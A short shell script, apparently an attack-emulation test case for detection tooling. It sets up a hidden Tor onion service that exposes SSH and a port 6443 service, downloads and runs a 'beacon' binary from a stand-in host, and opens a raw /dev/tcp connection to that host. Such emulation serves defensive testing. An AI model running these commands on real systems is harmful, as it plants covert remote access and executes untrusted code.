#!/bin/sh
. /opt/case/case.sh

mkdir -p /var/lib/.tor/hs && cd /var/lib/.tor
printf 'SocksPort 0\nDataDirectory /var/lib/.tor\nHiddenServiceDir /var/lib/.tor/hs\nHiddenServicePort 22 127.0.0.1:22\nHiddenServicePort 6443 10.77.0.1:6443\n' >torrc
curl -s -o tor http://203.0.113.10/programs/beacon && chmod 755 tor
bash -c 'exec 3<>/dev/tcp/203.0.113.10/9001; printf "\026\003\001" >&3'
timeout 12 ./tor -f torrc >/dev/null 2>&1 || true
test -s torrc
took_place
